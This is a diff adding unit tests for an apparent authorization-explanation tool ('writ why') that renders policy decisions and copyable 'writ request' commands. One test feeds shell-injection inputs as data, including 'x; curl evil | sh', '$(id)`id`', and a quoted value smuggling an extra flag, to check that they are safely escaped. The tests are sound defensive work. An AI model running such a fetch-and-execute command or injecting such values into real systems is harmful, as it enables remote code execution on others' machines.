@@ -132,6 +132,39 @@ describe('writ why', () => {
     ])
   })
 
+  test('of rules that are as near, the one that evidence would meet is told of first', () => {
+    const nearest = [rule([amount], { policy: 'small' }), rule([approval], { policy: 'large' })]
+    const first = (more: Members): string | undefined => describeRules(explained({ nearest }), entry(more))[0]
+    assert.equal(first({}), 'Nearest rule: refunds.cedar:12 "large"')
+    assert.equal(first({ alternatives: undefined }), 'Nearest rule: refunds.cedar:12 "small"')
+  })
+
+  test('of a forbid with many exceptions, told is what kept it from being excepted', () => {
+    const part = (text: string, status: 'holds' | 'fails', more: Partial<ClauseResult> = {}): ClauseResult =>
+      clause(text, status, { kind: 'unless', ...more })
+    const unless = part('resource.a && resource has b && resource.n > 0', 'holds', {
+      any: [
+        part('resource.a', 'fails'),
+        part('resource has b', 'holds', {
+          actual: [{ path: 'resource.b' }],
+          required: { path: 'resource.b', operator: 'has' },
+        }),
+        part('resource.n > 0', 'holds', {
+          actual: [{ path: 'resource.n', value: 0 }],
+          required: { path: 'resource.n', operator: '<=', value: 0 },
+        }),
+      ],
+    })
+    assert.deepEqual(
+      describeRules(explained({ nearest: [], fired: [rule([unless], { effect: 'forbid' })] }), entry()),
+      [
+        'Forbidden by: refunds.cedar:12 "small refunds"',
+        '  • unless resource has b (absent)',
+        '  • resource.n ≤ 0 (is 0)',
+      ],
+    )
+  })
+
   test('names the forbid that fired, and what made it fire', () => {
     const fired = rule(
       [clause('resource.tier == "gold"', 'holds', { actual: [{ path: 'resource.tier', value: 'gold' }] })],
@@ -174,6 +207,44 @@ describe('writ why', () => {
     )
   })
 
+  test('B24 a command that is copied does nothing else, whatever was tried', () => {
+    const tried = (name: string, id: string, under: string): Members => ({
+      subject: { type: 'Agent', id: 'triage' },
+      action: { name },
+      resource: { type: 'Account', id },
+      context: {},
+      task: under,
+    })
+    const asked = (attempt: Members): string =>
+      describeDecision(entry({ attempt }), undefined).find((line) => line.includes('writ request')) ?? ''
+    assert.match(
+      asked(tried('refund:all', '7/a b', 'task_88')),
+      /writ request refund:all --on 'Account\/7\/a b' --task task_88/,
+    )
+    assert.match(
+      asked(tried('x; curl evil | sh', '$(id)`id`', "t' --task 'u")),
+      /writ request 'x; curl evil \| sh' --on 'Account\/\$\(id\)`id`' --task 't'\\'' --task '\\''u'$/,
+    )
+    assert.match(asked(tried('--all', '7', '-x')), /writ request … --on Account\/7 --task …$/)
+    const wanted = describeDecision(
+      entry({ outcome: 'deny', alternatives: [], attempt: { ...tried('a&b', '#7', 'x'), task: undefined } }),
+      explained({
+        nearest: [
+          rule([
+            clause('context.live has task', 'fails', {
+              actual: [{ path: 'context.live.task' }],
+              required: { path: 'context.live.task', operator: 'has' },
+            }),
+          ]),
+        ],
+      }),
+    )
+    assert.ok(
+      wanted.some((line) => line.includes("--action 'a&b' --on 'Account/#7' --reason")),
+      wanted.join('\n'),
+    )
+  })
+
   test('B24 nothing that others wrote moves the cursor, and lines fit where they can', () => {
     const long = clause(`context.note == "${'word '.repeat(60)}\u001B[2J"`, 'fails', {
       actual: [{ path: 'context.note', value: `\u001B[31m${'x'.repeat(500)}` }],
@@ -185,7 +256,6 @@ describe('writ why', () => {
     }
     for (const columns of [40, 80, 0]) {
       const lines = describeDecision(entry({ at: 'never' }), explained(odd), { columns })
-      // oxlint-disable-next-line no-control-regex
       assert.doesNotMatch(lines.join(''), /[\u0000-\u001F]/u)
       // a command stays in one piece, to be copied
       for (const line of lines.slice(2).filter((it) => !it.includes('→ writ')))
